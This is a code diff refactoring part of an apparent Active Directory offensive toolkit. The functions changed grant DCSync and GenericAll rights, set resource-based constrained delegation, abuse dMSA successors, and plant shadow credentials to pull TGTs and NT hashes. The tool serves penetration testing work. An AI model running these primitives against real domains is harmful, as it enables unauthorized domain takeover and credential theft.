@@ -19,6 +19,15 @@ from kerbad.protocol.external import ticketutil
 from kerbad.protocol.encryption import Enctype
 from winacl.dtyp.security_descriptor import SECURITY_DESCRIPTOR
 
+# Static parts of computer object creation, built once at import time
+_COMPUTER_OBJECT_CLASS = ("top", "person", "organizationalPerson", "user", "computer")
+_COMPUTER_SPN_TEMPLATES = (
+    "HOST/{hostname}",
+    "HOST/{hostname}.{domain}",
+    "RestrictedKrbHost/{hostname}",
+    "RestrictedKrbHost/{hostname}.{domain}",
+)
+
 
 async def badSuccessor(conn: ConnectionHandler, dmsa: str, t: list = ["CN=Administrator,CN=Users,DC=Current,DC=Domain"], ou: str = None):
     """
@@ -49,9 +58,10 @@ async def badSuccessor(conn: ConnectionHandler, dmsa: str, t: list = ["CN=Admini
         # If we don't find one, we will use the first one where we have ownership write on
         ldap = await conn.getLdap()
         ou = None
-        writable_ou = []
-        writable_nt_ou = []
-        writable_owner_ou = []
+        # Only the first candidate of each kind is ever used so don't accumulate the rest
+        writable_ou = None
+        writable_nt_ou = None
+        writable_owner_ou = None
         async for entry in ldap.bloodysearch(
             ldap.domainNC,
             ldap_filter="(|(objectClass=container)(objectClass=organizationalUnit))",
@@ -64,25 +74,26 @@ async def badSuccessor(conn: ConnectionHandler, dmsa: str, t: list = ["CN=Admini
                     # Choose Managed Service Accounts in priority as it is the default for dMSA
                     ou = entry["distinguishedName"]
                     break
-                writable_ou.append(entry["distinguishedName"])
-            elif sdright_mask & 4:
+                if not writable_ou:
+                    writable_ou = entry["distinguishedName"]
+            elif not writable_nt_ou and sdright_mask & 4:
                 # We have DACL write on the OU
-                writable_nt_ou.append(entry["distinguishedName"])
-            elif sdright_mask & 3:
+                writable_nt_ou = entry["distinguishedName"]
+            elif not writable_owner_ou and sdright_mask & 3:
                 # We have ownership write on the OU
-                writable_owner_ou.append(entry["distinguishedName"])
+                writable_owner_ou = entry["distinguishedName"]
 
         if not ou:
             if writable_ou:
                 # Choose the first OU we can add child to
-                ou = writable_ou[0]
+                ou = writable_ou
             elif writable_nt_ou:
-                ou = writable_nt_ou[0]
+                ou = writable_nt_ou
                 await genericAll(conn, ou, conn.conf.username)
             elif writable_owner_ou:
-                ou = writable_owner_ou[0]
+                ou = writable_owner_ou
                 await bloodySet.owner(conn, ou, conn.conf.username)
-                await genericAll(conn, ou, conn.conf.username)                        
+                await genericAll(conn, ou, conn.conf.username)
             else:
                 raise BloodyError("No suitable OU found for adding the DMSA object")
         return ou, compatible_dcs
@@ -223,19 +234,11 @@ async def computer(conn: ConnectionHandler, hostname: str, newpass: str, ou: str
 
     # Default computer SPNs
     spns = [
-        "HOST/%s" % hostname,
-        "HOST/%s.%s" % (hostname, ldap.domainname),
-        "RestrictedKrbHost/%s" % hostname,
-        "RestrictedKrbHost/%s.%s" % (hostname, ldap.domainname),
+        t.format(hostname=hostname, domain=ldap.domainname)
+        for t in _COMPUTER_SPN_TEMPLATES
     ]
     attr = {
-        "objectClass": [
-            "top",
-            "person",
-            "organizationalPerson",
-            "user",
-            "computer",
-        ],
+        "objectClass": list(_COMPUTER_OBJECT_CLASS),
         "dnsHostName": "%s.%s" % (hostname, ldap.domainname),
         "userAccountControl": 0x1000,
         "servicePrincipalName": spns,
@@ -262,16 +265,12 @@ async def dcsync(conn: ConnectionHandler, trustee: str):
     """
     ldap = await conn.getLdap()
     new_sd, _ = await utils.getSD(conn, ldap.domainNC)
-    if "s-1-" in trustee.lower():
-        trustee_sid = trustee
-    else:
-        entry = None
-        async for e in ldap.bloodysearch(trustee, attr=["objectSid"]):
-            entry = e
-            break
-        trustee_sid = entry["objectSid"]
+    # One search rooted on the NC instead of a DN resolution followed by a read
+    trustee_sid = (await utils.resolveSids(conn, [trustee]))[trustee]
     access_mask = accesscontrol.ACCESS_FLAGS["ADS_RIGHT_DS_CONTROL_ACCESS"]
-    utils.addRight(new_sd, trustee_sid, access_mask)
+    if not utils.addRight(new_sd, trustee_sid, access_mask):
+        LOG.warning(f"{trustee} is already able to DCSync, no modification will be made")
+        return
 
     req_flags = badldap.wintypes.asn1.sdflagsrequest.SDFlagsRequestValue(
         {"Flags": accesscontrol.DACL_SECURITY_INFORMATION}
@@ -322,15 +321,12 @@ async def dnsRecord(
     ldap = await conn.getLdap()
     naming_context = "," + ldap.domainNC
     if zone == "CurrentDomain":
-        zone = ""
-        for label in naming_context.split(",DC="):
-            if label:
-                zone += "." + label
+        # Domain DNS name is the dot-joined DC components of the NC
+        zone = ".".join(
+            label[3:] for label in ldap.domainNC.split(",") if label[:3].upper() == "DC="
+        )
         if forest:
-            zone = "_msdcs" + zone
-        else:
-            # Removes first dot
-            zone = zone[1:]
+            zone = "_msdcs." + zone
 
     # TODO: take into account custom ForestDnsZones and DomainDnsZones partition name ?
     if forest:
@@ -396,15 +392,10 @@ async def genericAll(conn: ConnectionHandler, target: str, trustee: str):
     """
     ldap = await conn.getLdap()
     new_sd, _ = await utils.getSD(conn, target)
-    if "s-1-" in trustee.lower():
-        trustee_sid = trustee
-    else:
-        entry = None
-        async for e in ldap.bloodysearch(trustee, attr=["objectSid"]):
-            entry = e
-            break
-        trustee_sid = entry["objectSid"]
-    utils.addRight(new_sd, trustee_sid)
+    trustee_sid = (await utils.resolveSids(conn, [trustee]))[trustee]
+    if not utils.addRight(new_sd, trustee_sid):
+        LOG.warning(f"{trustee} already has GenericAll on {target}, no modification will be made")
+        return
 
     req_flags = badldap.wintypes.asn1.sdflagsrequest.SDFlagsRequestValue(
         {"Flags": accesscontrol.DACL_SECURITY_INFORMATION}
@@ -425,21 +416,33 @@ async def groupMember(conn: ConnectionHandler, group: str, member: str):
     Add a new member (user, group, computer) to group
 
     :param group: sAMAccountName, DN or SID of the group
-    :param member: sAMAccountName, DN or SID of the member
+    :param member: sAMAccountName, DN or SID of the member (can be a list of members when scripted)
     """
     # This is equivalent to classic add member,
     # see [MS-ADTS] - 3.1.1.3.1.2.4 Alternative Forms of DNs
     # But <SID='sid'> also has the advantage of being compatible with foreign security principals,
     # see [MS-ADTS] - 3.1.1.5.3.3 Processing Specifics
     ldap = await conn.getLdap()
-    if "s-1-" in member.lower():
-        # We assume member is an SID
-        member_transformed = f"<SID={member}>"
-    else:
-        member_transformed = await ldap.dnResolver(member)
+    members = member if isinstance(member, list) else [member]
+    members_transformed = []
+    to_resolve = []
+    for m in members:
+        if "s-1-" in m.lower():
+            # We assume member is an SID
+            members_transformed.append(f"<SID={m}>")
+        elif ",dc=" in m.lower():
+            # DNs may come from another trusted domain, don't try to resolve them
+            members_transformed.append(m)
+        else:
+            to_resolve.append(m)
+    if to_resolve:
+        sid_map = await utils.resolveSids(conn, to_resolve)
+        members_transformed += [f"<SID={sid}>" for sid in sid_map.values()]
 
-    await ldap.bloodymodify(group, {"member": [(Change.ADD.value, member_transformed)]})
-    LOG.info(f"{member} added to {group}")
+    await ldap.bloodymodify(
+        group, {"member": [(Change.ADD.value, members_transformed)]}
+    )
+    LOG.info(f"{', '.join(members)} added to {group}")
 
 
 async def rbcd(conn: ConnectionHandler, target: str, service: str):
@@ -454,16 +457,11 @@ async def rbcd(conn: ConnectionHandler, target: str, service: str):
     new_sd, _ = await utils.getSD(
         conn, target, "msDS-AllowedToActOnBehalfOfOtherIdentity", control_flag
     )
-    if "s-1-" in service.lower():
-        service_sid = service
-    else:
-        entry = None
-        async for e in ldap.bloodysearch(service, attr=["objectSid"]):
-            entry = e
-            break
-        service_sid = entry["objectSid"]
+    service_sid = (await utils.resolveSids(conn, [service]))[service]
     access_mask = accesscontrol.ACCESS_FLAGS["ADS_RIGHT_DS_CONTROL_ACCESS"]
-    utils.addRight(new_sd, service_sid, access_mask)
+    if not utils.addRight(new_sd, service_sid, access_mask):
+        LOG.warning(f"{service} can already impersonate users on {target}, no modification will be made")
+        return
 
     await ldap.bloodymodify(
         target,
@@ -480,12 +478,17 @@ async def rbcd(conn: ConnectionHandler, target: str, service: str):
     LOG.info(f"{service} can now impersonate users on {target} via S4U2Proxy")
 
 
-async def shadowCredentials(conn: ConnectionHandler, target: str, path: str = "CurrentPath"):
+# RSA key shared between shadowCredentials calls when reuse_key is set
+_reused_rsa_key = None
+
+
+async def shadowCredentials(conn: ConnectionHandler, target: str, path: str = "CurrentPath", reuse_key: bool = False):
     """
     Add Key Credentials to target (try to find a suitable DC if provided DC is below Win2016), and use those credentials to retrieve a TGT and a NT hash using PKINIT.
 
     :param target: sAMAccountName, DN or SID of the target
     :param path: filepath for the generated credentials (TGT ccache or pfx if PKINIT fails)
+    :param reuse_key: if set, reuse the RSA key generated by a previous call in the same process, amortizing the key generation cost when scripted against many targets
     """
 
     # We scope on the domain of the target
@@ -507,9 +510,25 @@ async def shadowCredentials(conn: ConnectionHandler, target: str, path: str = "C
 
     target_dn = None
     target_sAMAccountName = None
-    async for entry in ldap.bloodysearch(target, attr=["distinguishedName", "sAMAccountName"]):
+    writable_attrs = []
+    async for entry in ldap.bloodysearch(
+        target,
+        attr=["distinguishedName", "sAMAccountName", "allowedAttributesEffective"],
+    ):
         target_dn = entry["distinguishedName"]
         target_sAMAccountName = entry["sAMAccountName"]
+        writable_attrs = entry.get("allowedAttributesEffective", [])
+        break
+
+    # allowedAttributesEffective only reflects WRITE_PROPERTY, not validated writes
+    # (e.g. SELF enrolling on its own machine account), see [MS-ADTS] 3.1.1.4.5.19,
+    # so a miss here is only a hint and the server stays the judge
+    if "msDS-KeyCredentialLink" not in writable_attrs:
+        LOG.warning(
+            "msDS-KeyCredentialLink doesn't seem writable by current user on"
+            f" {target}, attempting anyway in case a validated write applies"
+        )
+
     if path == "CurrentPath":
         path = target_sAMAccountName.strip('$') + "_" + "".join(
             random.choice(string.ascii_letters + string.digits) for i in range(2)
@@ -517,7 +536,13 @@ async def shadowCredentials(conn: ConnectionHandler, target: str, path: str = "C
 
     LOG.debug("Generating certificate")
 
-    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    global _reused_rsa_key
+    if reuse_key and _reused_rsa_key:
+        key = _reused_rsa_key
+    else:
+        key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+        if reuse_key:
+            _reused_rsa_key = key
     subject = x509.Name.from_rfc4514_string(target_dn)
     cert = (
         x509.CertificateBuilder()
@@ -613,25 +638,7 @@ async def uac(conn: ConnectionHandler, target: str, f: list = None):
     for flag in f:
         uac |= accesscontrol.ACCOUNT_FLAGS[flag]
 
-    try:
-        entry = None
-        async for e in ldap.bloodysearch(target, attr=["userAccountControl"], raw=True):
-            entry = e
-            break
-        old_uac = entry["userAccountControl"][0]
-    except IndexError as e:
-        entry = None
-        async for search_entry in ldap.bloodysearch(target, attr=["allowedAttributes"]):
-            entry = search_entry
-            break
-        for allowed in entry["allowedAttributes"]:
-            if "userAccountControl" in allowed:
-                raise BloodyError(
-                    "Current user doesn't have the right to read userAccountControl on"
-                    f" {target}"
-                ) from e
-        raise BloodyError(f"{target} doesn't have userAccountControl attribute") from e
-    uac |= int(old_uac)
+    uac |= await utils.getUserAccountControl(conn, target)
     await ldap.bloodymodify(
         target, {"userAccountControl": [(Change.REPLACE.value, uac)]}
     )